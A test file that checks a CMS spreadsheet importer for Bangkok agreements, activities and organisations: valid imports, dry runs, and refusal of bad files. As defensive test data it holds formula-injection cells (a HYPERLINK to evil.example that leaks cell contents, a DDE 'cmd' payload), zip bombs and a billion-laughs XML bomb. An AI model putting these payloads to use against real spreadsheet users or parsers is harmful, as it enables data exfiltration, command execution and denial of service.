/**
 * Spreadsheet intake against a real CMS (Local API, real SQLite) with real CSV and XLSX files made here: a workbook of
 * organisations, agreements and activities imported whole; a dry run that writes nothing; a re-import that changes
 * nothing; a sheet of a few columns that updates only those; and every kind of bad or hostile file refused with its
 * row, column and reason, the database unchanged.
 */
import { execFile } from 'node:child_process'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'
import { exportBundle } from '../../cms/bundle/exportBundle.ts'
import { importBundle } from '../../cms/bundle/importBundle.ts'
import { importSheets, type SheetImportOptions } from '../../cms/bundle/importSheet.ts'
import { localizeSheetReason } from '../../cms/i18n/sheetMessages.ts'
import { readBundle } from '../../content/bundle.ts'
import { SheetError } from '../../content/sheet/problems.ts'
import { neutralise, parseCsv, unneutralise } from '../../site/src/lib/openData/csv.ts'
import { openDataFiles } from '../../site/src/lib/openData/files.ts'
import { openDataSettings } from '../../site/src/lib/openData/settings.ts'
import { publicContent } from '../../site/src/lib/publicContent.ts'
import { cmsBundle, openTestCms, type Staff } from '../support/localCms.ts'
import type { Json } from '../support/json.ts'
import { csv, rezip, withClaimedSizes, xlsx, zip, type Rows } from '../support/sheets.ts'
import { untranslated } from '../support/untranslated.ts'

let payload: Payload
let staff: Staff
let dataDir: string

const organizations: Rows = [
  ['slug', 'name_th', 'name_en', 'name_ja', 'kind', 'country', 'summary_th', 'aliases_en', 'coordinates.lat', 'coordinates.lng'],
  [
    'citynet',
    'ซิตี้เน็ต',
    'CityNet',
    'シティネット',
    'city-network',
    'KR',
    'เครือข่ายเมืองในภูมิภาคเอเชียแปซิฟิก',
    'CityNet; Regional Network of Local Authorities',
    37.5665,
    126.978,
  ],
]
const agreements: Rows = [
  [
    'slug',
    'title_th',
    'title_en',
    'title_ja',
    'kind',
    'partners',
    'status',
    'signed',
    'expires',
    'sectors',
    'documents.1.file',
    'documents.1.lang',
    'documents.1.title_th',
    'documents.1.title_en',
    'summary_th',
    'summary_en',
    'internalNotes',
  ],
  [
    'bangkok-fukuoka-mou',
    'บันทึกความเข้าใจกรุงเทพมหานคร–ฟูกูโอกะ',
    'Bangkok–Fukuoka MOU',
    'バンコク・福岡覚書',
    'mou',
    'cities/fukuoka; organizations/citynet',
    'in-force',
    new Date(Date.UTC(2006, 10, 1)),
    2030,
    'sister-cities; urban-planning',
    'docs/mou.pdf',
    'ja',
    'ฉบับลงนาม',
    'The signed text',
    'บันทึกความเข้าใจว่าด้วยความร่วมมือ',
    { formula: 'HYPERLINK("http://evil.example/","click")', result: 'click' },
    'บันทึกภายใน\nบรรทัดที่สอง',
  ],
]
const activities: Rows = [
  ['slug', 'title_th', 'title_en', 'kind', 'start', 'end', 'partners', 'units_th', 'units_en', 'agreement', 'followUps.1.action', 'followUps.1.done'],
  [
    'fukuoka-visit-2019',
    'คณะจากฟูกูโอกะเยือนกรุงเทพฯ',
    'Fukuoka delegation visits Bangkok',
    'incoming-visit',
    '2019-05-01',
    '2019-05-03',
    'cities/fukuoka',
    'สำนักการต่างประเทศ; สำนักการศึกษา',
    'International Affairs Division; Education Department',
    'agreements/bangkok-fukuoka-mou',
    'ส่งรายงาน',
    true,
  ],
]

const workbook = () => xlsx({ organizations, agreements, activities, lists: [['kind'], ['mou']] }, { hidden: ['lists'] })
const importFile = (name: string, bytes: Buffer, options: SheetImportOptions = {}) => importSheets(payload, [{ name, bytes }], options)

beforeAll(async () => {
  ;({ payload, staff, dataDir } = await openTestCms())
  await importBundle(payload, cmsBundle)
})

/** Everything the CMS holds, as a full backup, with the media and units counted: the measure of "unchanged". */
async function snapshot(): Promise<string> {
  const out = await mkdtemp(join(tmpdir(), 'bma-sheet-snap-'))
  const bundle = await exportBundle(payload, out, { includeInternal: true })
  await rm(out, { recursive: true })
  const count = async (collection: 'media' | 'units' | 'deploys') => (await payload.count({ collection })).totalDocs
  const versions = (await payload.countVersions({ collection: 'agreements' })).totalDocs
  return JSON.stringify({ bundle, media: await count('media'), units: await count('units'), deploys: await count('deploys'), versions })
}

/** A stored entry as the tests read it: all locales, references populated. */
const find = async (collection: 'agreements' | 'activities' | 'organizations', slug: string): Promise<Json | undefined> =>
  (await payload.find({ collection, where: { slug: { equals: slug } }, locale: 'all', depth: 1, draft: false })).docs[0]

describe('a workbook of organisations, agreements and activities', () => {
  it('is checked by a dry run that says what each row would do and writes nothing', async () => {
    const before = await snapshot()
    const report = await importFile('intake.xlsx', await workbook(), { dryRun: true })
    expect(report.summary).toBeUndefined()
    expect(report.rows.map((r) => [r.sheet, r.row, `${r.collection}/${r.slug}`, r.action])).toEqual([
      ['intake.xlsx › activities', 2, 'activities/fukuoka-visit-2019', 'create'],
      ['intake.xlsx › agreements', 2, 'agreements/bangkok-fukuoka-mou', 'create'],
      ['intake.xlsx › organizations', 2, 'organizations/citynet', 'create'],
    ])
    expect(report.notes).toEqual(['intake.xlsx › lists: a hidden sheet that names no collection, passed over'])
    expect(await snapshot()).toBe(before)
  })

  it('imports every row: five languages, references across sheets and to the CMS by slug, units, lists and staff fields', async () => {
    const report = await importFile('intake.xlsx', await workbook())
    expect(report.summary).toMatchObject({ created: 4, updated: 0 })
    const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
    expect(agreement.title).toEqual({ th: 'บันทึกความเข้าใจกรุงเทพมหานคร–ฟูกูโอกะ', en: 'Bangkok–Fukuoka MOU', ja: 'バンコク・福岡覚書' })
    expect(agreement.partners.map((p: Json) => `${p.relationTo}/${p.value.slug}`)).toEqual(['cities/fukuoka', 'organizations/citynet'])
    expect([agreement.signed, agreement.expires, agreement.status, agreement._status]).toEqual(['2006-11-01', '2030', 'in-force', 'published'])
    expect(agreement.sectors.map((d: Json) => d.slug)).toEqual(['sister-cities', 'urban-planning'])
    expect(agreement.internalNotes).toBe('บันทึกภายใน\nบรรทัดที่สอง')
    // The file named is the one the media library holds: no second copy.
    expect(agreement.documents[0].file).toMatchObject({ bundlePath: 'docs/mou.pdf' })
    expect((await payload.count({ collection: 'media', where: { filename: { like: 'mou' } } })).totalDocs).toBe(1)
    const activity = (await find('activities', 'fukuoka-visit-2019'))!
    expect(activity.agreement).toMatchObject({ slug: 'bangkok-fukuoka-mou' })
    expect(activity.units.map((u: Json) => u.name)).toEqual([
      { th: 'สำนักการต่างประเทศ', en: 'International Affairs Division' },
      { th: 'สำนักการศึกษา', en: 'Education Department' },
    ])
    expect(activity.followUps).toMatchObject([{ action: 'ส่งรายงาน', done: true }])
    const org = (await find('organizations', 'citynet'))!
    expect(org.aliases).toEqual({ en: ['CityNet', 'Regional Network of Local Authorities'] })
    expect(org.coordinates).toEqual({ lat: 37.5665, lng: 126.978 })
  })

  it('keeps a formula as its text, never evaluated and never its cached result', async () => {
    const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
    expect(agreement.summary.en).toBe('=HYPERLINK("http://evil.example/","click")')
  })

  it('re-imports without duplicating or changing anything', async () => {
    const before = await snapshot()
    const report = await importFile('intake.xlsx', await workbook())
    expect(report.summary).toEqual({ created: 0, updated: 0, unchanged: 3, media: 0 })
    expect(report.rows.every((row) => row.action === 'unchanged')).toBe(true)
    expect(await snapshot()).toBe(before)
  })

  it('updates only the columns a sheet has (a CSV saved by Excel: byte order mark, CRLF, quotes)', async () => {
    const sheet = csv([
      ['slug', 'title_en', 'title_ko'],
      ['bangkok-fukuoka-mou', 'Memorandum of Understanding, "Bangkok–Fukuoka"', '방콕-후쿠오카 양해각서'],
    ])
    const report = await importFile('agreements-2006.csv', sheet)
    expect(report.rows).toMatchObject([{ row: 2, action: 'update' }])
    const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
    expect(agreement.title).toEqual({
      th: 'บันทึกความเข้าใจกรุงเทพมหานคร–ฟูกูโอกะ',
      en: 'Memorandum of Understanding, "Bangkok–Fukuoka"',
      ja: 'バンコク・福岡覚書',
      ko: '방콕-후쿠오카 양해각서',
    })
    expect(agreement.partners).toHaveLength(2)
    expect(agreement.documents).toHaveLength(1)
    expect(agreement.internalNotes).toBe('บันทึกภายใน\nบรรทัดที่สอง')
  })

  it('clears a value whose cell is empty', async () => {
    await importFile(
      'agreements.csv',
      csv([
        ['slug', 'expires', 'title_ko'],
        ['bangkok-fukuoka-mou', '', ''],
      ]),
    )
    const agreement = (await find('agreements', 'bangkok-fukuoka-mou'))!
    expect(agreement.expires ?? null).toBeNull()
    expect(agreement.title.ko ?? null).toBeNull()
  })
})

describe('cells a spreadsheet would run as formulas', () => {
  it('are stored as the text they are, and reach the open data CSV neutralised, reading back as that text', async () => {
    const cells = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "=cmd|' /C calc'!A0", '+66 2 224 1234', '-1+1', '@SUM(A1:A9)']
    const sheet = csv([
      ['slug', 'title_th', 'title_en', 'kind', 'partners', 'status', 'summary_th'],
      ...cells.map((cell, i) => [`formula-${i}`, `ทดสอบสูตร ${i}`, cell, 'mou', 'cities/fukuoka', 'in-force', cell]),
    ])
    await importFile('agreements.csv', sheet)
    for (const [i, cell] of cells.entries()) expect((await find('agreements', `formula-${i}`))!.title.en).toBe(cell)

    const out = await mkdtemp(join(tmpdir(), 'bma-sheet-open-data-'))
    await exportBundle(payload, out)
    const file = openDataFiles(publicContent(await readBundle(out)), openDataSettings({})).find((f) => f.name === 'agreements.csv')!
    const [header, ...rows] = parseCsv(file.body)
    const column = (name: string) => header!.indexOf(name)
    for (const [i, cell] of cells.entries()) {
      const row = rows.find((r) => r[column('slug')] === `formula-${i}`)!
      expect(row[column('title_en')]).toBe(neutralise(cell))
      expect(row[column('title_en')]!.startsWith("'")).toBe(true)
      expect(unneutralise(row[column('summary_th')]!)).toBe(cell)
    }
    await rm(out, { recursive: true })
  })
})

describe('the command line', () => {
  const tsx = join(process.cwd(), 'node_modules/.bin/tsx')
  const run = (...args: string[]) =>
    promisify(execFile)(tsx, ['scripts/import-content.ts', ...args], { env: { ...process.env, DATA_DIR: dataDir }, timeout: 240_000 }).then(
      (out) => ({ code: 0, ...out }),
      (error: { code: number; stdout: string; stderr: string }) => error,
    )

  it('--dry-run lists what each row would do and writes nothing; a bad sheet exits 1 with every problem', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'bma-cli-sheet-'))
    await writeFile(
      join(dir, 'organizations.csv'),
      csv([
        ['slug', 'name_th', 'kind', 'summary_th'],
        ['wego', 'วีโก้', 'city-network', 'เครือข่ายเมืองอัจฉริยะ'],
      ]),
    )
    const checked = await run('--sheet', join(dir, 'organizations.csv'), '--dry-run')
    expect(checked.stdout).toContain('organizations.csv, row 2: organizations/wego would be created')
    expect(checked.code).toBe(0)
    expect(await find('organizations', 'wego')).toBeUndefined()

    await writeFile(
      join(dir, 'activities.csv'),
      csv([
        ['slug', 'title_en', 'kind', 'start', 'partners'],
        ['x', 'No Thai title', 'visit', '2019', 'cities/atlantis'],
      ]),
    )
    const refused = await run('--sheet', join(dir, 'activities.csv'))
    expect(refused.code).toBe(1)
    expect(refused.stderr).toContain('activities.csv, row 2, column title_th: is required (the sheet has no column title_th)')
    expect(refused.stderr).toContain('activities.csv, row 2, column C (kind): is "visit", which is not one of: incoming-visit, outgoing-visit')
    expect(refused.stderr).toContain('activities.csv, row 2, column E (partners): item 1 refers to "atlantis", which is not in cities/')

    const imported = await run('--sheet', join(dir, 'organizations.csv'))
    expect(imported.stdout).toContain('organizations.csv, row 2: organizations/wego created')
    expect(await find('organizations', 'wego')).toMatchObject({ kind: 'city-network' })
  })
})

describe('bad input is refused with its row, column and reason, and changes nothing', () => {
  let before: string
  beforeAll(async () => {
    await payload.create({
      collection: 'agreements',
      data: {
        slug: 'secret-mou',
        title: 'ความตกลงลับ',
        kind: 'mou',
        status: 'under-negotiation',
        partners: [{ relationTo: 'cities', value: (await payload.find({ collection: 'cities' })).docs[0]!.id }],
        visibility: 'restricted',
        readers: ['someone-else@example.org'],
        _status: 'published',
      },
    })
    before = await snapshot()
  })

  const header = ['slug', 'title_th', 'kind', 'partners', 'status', 'signed', 'expires']
  const agreementRow = (changes: Partial<Record<string, string>>) =>
    header.map((h) => changes[h] ?? { slug: 'hostile', title_th: 'ทดสอบ', kind: 'mou', partners: 'cities/fukuoka', status: 'in-force' }[h] ?? '')
  const agreementsCsv = (...rows: string[][]) => csv([header, ...rows])

  const cases: [string, () => Promise<[string, Buffer]> | [string, Buffer], RegExp[], 'as an editor'?][] = [
    [
      'a missing Thai title',
      () => ['agreements.csv', agreementsCsv(agreementRow({ title_th: '' }))],
      [/agreements\.csv, row 2, column B \(title_th\): is required/],
    ],
    [
      'an unknown kind',
      () => ['agreements.csv', agreementsCsv(agreementRow({ kind: 'treaty' }))],
      [/row 2, column C \(kind\): is "treaty", which is not one of: sister-city, friendship, mou, letter-of-intent, cooperation, other/],
    ],
    [
      'an unknown status',
      () => ['agreements.csv', agreementsCsv(agreementRow({ status: 'signed' }))],
      [/row 2, column E \(status\): is "signed", which is not one of: in-force, expired/],
    ],
    [
      'a dangling reference',
      () => ['agreements.csv', agreementsCsv(agreementRow({ partners: 'cities/fukuoka; organizations/atlantis' }))],
      [/row 2, column D \(partners\): item 2 refers to "atlantis", which is not in organizations\/ \(neither in the CMS nor in this spreadsheet\)/],
    ],
    [
      'a reference to the wrong collection',
      () => ['agreements.csv', agreementsCsv(agreementRow({ partners: 'glossary/sister-city' }))],
      [/row 2, column D \(partners\): item 1 refers to glossary\/, but may only refer to cities\/ or organizations\//],
    ],
    [
      'a reference that is not one',
      () => ['agreements.csv', agreementsCsv(agreementRow({ partners: 'Fukuoka' }))],
      [/row 2, column D \(partners\): item 1 must be a reference "\{collection\}\/\{slug\}"/],
    ],
    [
      'an expiry before the signing',
      () => ['agreements.csv', agreementsCsv(agreementRow({ signed: '2010-05-01', expires: '2009' }))],
      [/row 2, column G \(expires\): is before the signing date \(2010-05-01\)/],
    ],
    [
      'an end before the start',
      () => [
        'activities.csv',
        csv([
          ['slug', 'title_th', 'kind', 'start', 'end', 'partners'],
          ['hostile', 'ทดสอบ', 'meeting', '2019-05-03', '2019-05-01', 'cities/fukuoka'],
        ]),
      ],
      [/activities\.csv, row 2, column E \(end\): is before the start \(2019-05-03\)/],
    ],
    [
      'the same slug twice',
      () => ['agreements.csv', agreementsCsv(agreementRow({}), agreementRow({ title_th: 'อีกแถว' }))],
      [/row 3, column A \(slug\): repeats "hostile" of row 2: one row per entry/],
    ],
    [
      'a restricted document in a public agreement',
      () => [
        'agreements.csv',
        csv([
          [...header, 'documents.1.file', 'documents.1.lang', 'documents.1.visibility'],
          [...agreementRow({}), 'docs/mou.pdf', 'th', 'restricted'],
        ]),
      ],
      [/row 2, column J \(documents\.1\.visibility\): is restricted, but the agreement is not/],
    ],
    [
      'a media file that is nowhere',
      () => [
        'agreements.csv',
        csv([
          [...header, 'documents.1.file', 'documents.1.lang'],
          [...agreementRow({}), 'docs/missing.pdf', 'th'],
        ]),
      ],
      [/row 2, column H \(documents\.1\.file\): names media\/docs\/missing\.pdf, which is neither in the media folder given/],
    ],
    [
      'a formula where a date belongs (kept as text, so refused as a date)',
      async () => [
        'book.xlsx',
        await xlsx({ agreements: [header, [...agreementRow({}).slice(0, 5), { formula: 'DATE(2020,1,1)', result: new Date(Date.UTC(2020, 0, 1)) }]] }),
      ],
      [/book\.xlsx › agreements, row 2, column F \(signed\): must be an ISO date/],
    ],
    [
      'a year of the Buddhist era',
      () => ['agreements.csv', agreementsCsv(agreementRow({ signed: '2549-11-01' }))],
      [/row 2, column F \(signed\): 2549-11-01 has a year of the Buddhist era \(2549 BE is 2006 CE\)/],
    ],
    [
      'an Excel error value',
      async () => ['book.xlsx', await xlsx({ agreements: [header, [...agreementRow({}).slice(0, 4), { error: '#REF!' }]] })],
      [/row 2, column E: holds the Excel error #REF!/],
    ],
    [
      'a number that is not one',
      () => [
        'organizations.csv',
        csv([
          ['slug', 'name_th', 'kind', 'summary_th', 'coordinates.lat'],
          ['hostile', 'ทดสอบ', 'other', 'ทดสอบ', '13,75'],
        ]),
      ],
      [/row 2, column E \(coordinates\.lat\): must be a number, e\.g\. 13\.7563 \(it is "13,75"\)/],
    ],
    [
      'a truth value that is not one',
      () => [
        'agreements.csv',
        csv([
          [...header, 'followUps.1.action', 'followUps.1.done'],
          [...agreementRow({}), 'ติดตามผล', 'maybe'],
        ]),
      ],
      [/row 2, column I \(followUps\.1\.done\): must be TRUE or FALSE \(it is "maybe"\)/],
    ],
    [
      'units named differently in two languages',
      () => [
        'activities.csv',
        csv([
          ['slug', 'title_th', 'kind', 'start', 'partners', 'units_th', 'units_en'],
          ['hostile', 'ทดสอบ', 'meeting', '2019', 'cities/fukuoka', 'ก; ข', 'A'],
        ]),
      ],
      [/row 2, column G \(units_en\): names 1 items and units_th names 2/],
    ],
    [
      'columns that are not in the layout',
      () => [
        'agreements.csv',
        csv([
          ['slug', 'title', 'title_fr', 'titel_th', 'documents.0.file', 'title_th'],
          ['hostile', 'x', 'x', 'x', 'x', 'x'],
        ]),
      ],
      [
        /row 1, column B \(title\): is in every language: name its columns title_th, title_en, title_zh, title_ja, title_ko/,
        /row 1, column C \(title_fr\): names the language "fr", which is not one of th, en, zh, ja, ko/,
        /row 1, column D \(titel_th\): is not a column of agreements/,
        /row 1, column E \(documents\.0\.file\): numbers items from 1/,
      ],
    ],
    [
      'a file separated by semicolons',
      () => ['agreements.csv', Buffer.from('slug;title_th;kind\nhostile;ทดสอบ;mou\n')],
      [/column A \(slug;title_th;kind\): holds ";": the file seems to separate its columns with it/],
    ],
    ['no slug column', () => ['agreements.csv', csv([['title_th'], ['ทดสอบ']])], [/agreements\.csv, row 1, column slug: has no slug column/]],
    [
      'a value beyond the header',
      () => ['agreements.csv', csv([header, [...agreementRow({}), 'stray']])],
      [/row 2, column H: has a value beyond the last column of the header/],
    ],
    [
      'a sheet that names no collection, or names one twice',
      async () => ['book.xlsx', await xlsx({ Agreements: [header, agreementRow({})], 'agreements ': [header], Sheet1: [['x']] })],
      [/book\.xlsx › agreements : holds agreements, as book\.xlsx › Agreements does/, /book\.xlsx › Sheet1: is not named after a collection/],
    ],
    ['a CSV whose name names no collection', () => ['export.csv', agreementsCsv(agreementRow({}))], [/export\.csv: does not say which collection it holds/]],
    [
      'a restricted agreement the editor is not named on',
      () => [
        'agreements.csv',
        csv([
          ['slug', 'title_en'],
          ['secret-mou', 'Leaked'],
        ]),
      ],
      [/row 2, column A \(slug\): names an entry you may not change: a restricted entry is changed only by admins and the staff it names as readers/],
      'as an editor',
    ],
    ['an empty file', () => ['agreements.csv', Buffer.alloc(0)], [/agreements\.csv: is empty/]],
    [
      'a file larger than a spreadsheet may be',
      () => ['agreements.csv', Buffer.concat([csv([header]), Buffer.alloc(21_000_000, 'a')])],
      [/agreements\.csv: is 21,000,0\d\d bytes; a spreadsheet may be at most 20,000,000 bytes/],
    ],
    [
      'a CSV of 100,000 columns',
      () => ['agreements.csv', Buffer.from(`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\nx\n`)],
      [/agreements\.csv: row 1 has 100,000 columns; a sheet may have at most 1,000/],
    ],
    [
      'Thai in Windows-874 (what Excel\'s plain "CSV" writes)',
      () => [
        'agreements.csv',
        Buffer.concat([Buffer.from('slug,title_th\nhostile,'), Buffer.from([0xa1, 0xc3, 0xd8, 0xa7, 0xe0, 0xb7, 0xbe]), Buffer.from('\n')]),
      ],
      [/agreements\.csv: is not UTF-8 text \(line 2 holds bytes UTF-8 does not allow; Excel's plain "CSV" writes Thai as Windows-874\)/],
    ],
    [
      'UTF-16 ("Unicode Text")',
      () => ['agreements.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('slug\ttitle_th\r\n', 'utf16le')])],
      [/agreements\.csv: is UTF-16 text/],
    ],
    [
      'an old .xls workbook',
      () => ['agreements.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)])],
      [/agreements\.xls: is an Excel 97-2003 workbook/],
    ],
    [
      'an .xlsx that is not a zip',
      () => ['agreements.xlsx', Buffer.from('slug,title_th\n')],
      [/agreements\.xlsx: is not an XLSX workbook \(its content is not a zip file\)/],
    ],
    [
      'a zip bomb disguised as a workbook',
      async () => ['agreements.xlsx', await zip({ '[Content_Types].xml': '<Types/>', 'xl/worksheets/sheet1.xml': 120_000_000 })],
      [/agreements\.xlsx: unzips to more than 100,000,000 bytes/],
    ],
    [
      'a zip bomb that lies about its size',
      async () => ['agreements.xlsx', withClaimedSizes(await zip({ 'xl/worksheets/sheet1.xml': 20_000_000 }), 1_000)],
      [/agreements\.xlsx: (unzips to more than 100,000,000 bytes|is not a valid XLSX workbook)/],
    ],
    [
      'entities that expand (an XML bomb)',
      async () => {
        const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`
        const sharedStrings = `${laughs}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`
        return ['agreements.xlsx', await rezip(await xlsx({ agreements: [['slug'], ['x']] }), { 'xl/sharedStrings.xml': sharedStrings })]
      },
      [/agreements\.xlsx: could not be read as an XLSX workbook/],
    ],
  ]

  for (const [name, make, expected, who] of cases) {
    it(name, async () => {
      const [file, bytes] = await make()
      const error = await importFile(file, bytes, { user: who ? (staff.editor as SheetImportOptions['user']) : undefined }).then(
        () => undefined,
        (e: unknown) => e,
      )
      expect(error, 'the file should have been refused').toBeInstanceOf(SheetError)
      for (const pattern of expected) expect((error as SheetError).message).toMatch(pattern)
      // The same problems, as the import page shows them to Thai staff.
      expect((error as SheetError).problems.map((problem) => localizeSheetReason(problem.reason, 'th')).filter(untranslated)).toEqual([])
    })
  }

  it('left the database exactly as it was', async () => {
    expect(await snapshot()).toBe(before)
  })

  it('lets an admin change the restricted agreement the editor may not', async () => {
    const report = await importFile(
      'agreements.csv',
      csv([
        ['slug', 'title_en'],
        ['secret-mou', 'Secret MOU'],
      ]),
      { user: staff.admin as SheetImportOptions['user'] },
    )
    expect(report.rows).toMatchObject([{ slug: 'secret-mou', action: 'update' }])
  })
})
